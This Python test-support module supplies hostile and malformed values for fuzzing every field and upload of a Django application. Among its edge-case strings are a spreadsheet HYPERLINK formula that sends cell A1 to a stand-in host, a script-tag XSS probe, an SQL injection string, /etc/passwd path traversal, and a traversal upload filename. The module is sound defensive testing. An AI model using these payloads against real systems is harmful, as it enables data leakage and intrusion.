"""Hostile and clumsy values: what a tampered form, a pasted document or a curious visitor
sends. Each is tried in every field and query parameter the fuzzer finds."""

from __future__ import annotations

import random

from django.core.files.uploadedfile import SimpleUploadedFile

TEXTS: tuple[str, ...] = (
    "",
    " ",
    "\x00",
    "avant\x00après",
    "\x0b\x0c\x1b[31m\x7f",
    "ligne\r\nsuivante\ttabulée",
    "x" * 10_000,
    "é" * 5_000,
    "99999999999999999999",
    "9223372036854775808",
    "2147483648",
    "-1",
    "-99999999999999999999",
    "0",
    "1.5",
    "²",
    "٣",
    "¹²³",
    "inf",
    "-inf",
    "nan",
    "1e400",
    "0x10",
    "2031-02-30",
    "0000-00-00",
    "9999-12-31",
    "31/12/2031",
    "2031-13-01T25:61",
    "=HYPERLINK(\"http://exemple.invalid/\"&A1,\"Cliquez\")",
    "<script>alert(1)</script>",
    "' OR 1=1 --",
    "../../../etc/passwd",
    "%00",
    "e\u0301\u202e\ufeff\u200b",
    "🙂" * 50,
    "\ud7ff\U0010ffff",
    "null",
    "[]",
)


def hostile_files() -> list[SimpleUploadedFile]:
    """Files for file inputs (built fresh: an upload is read once)."""
    return [
        SimpleUploadedFile("vide.pdf", b"", content_type="application/pdf"),
        SimpleUploadedFile("nul\x00.pdf", b"%PDF-1.4\x00\x00", content_type="application/pdf"),
        SimpleUploadedFile("jalons.csv", "clé;titre;poids\n\x00;=1+1;1e400\nb;²;inf\n".encode(),
                           content_type="text/csv"),
        SimpleUploadedFile("jalons.xlsx", b"PK\x03\x04pas un classeur",
                           content_type="application/vnd.openxmlformats-officedocument"
                                        ".spreadsheetml.sheet"),
        SimpleUploadedFile("../../évasion.pdf", b"%PDF-1.4\n%%EOF\n",
                           content_type="application/pdf"),
    ]


def generated(rng: random.Random, count: int) -> list[str]:
    """`count` more strings drawn from the characters above, mixed with ordinary ones."""
    alphabet = "".join(sorted(set("".join(TEXTS[:40])))) + "azAZ09 -_.,;:/@+=" + "\x00\x01\x1f"
    out = []
    for _ in range(count):
        length = rng.choice((1, 2, 5, 20, 300))
        out.append("".join(rng.choice(alphabet) for _ in range(length)))
    return out
